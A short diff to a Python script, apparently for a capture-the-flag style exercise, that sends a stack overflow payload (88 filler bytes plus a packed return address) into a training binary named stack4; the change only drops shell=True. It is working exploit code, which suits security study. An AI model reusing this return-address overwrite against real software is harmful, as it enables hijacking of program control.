@@ -5,5 +5,5 @@ import subprocess
 
 if __name__ == "__main__":
     payload = 88 * b'A' + struct.pack('L', 0x401c1d)
-    with subprocess.Popen(['./stack4'], shell=True, stdin=subprocess.PIPE) as process:
+    with subprocess.Popen(['./stack4'], stdin=subprocess.PIPE) as process:
         process.stdin.write(payload)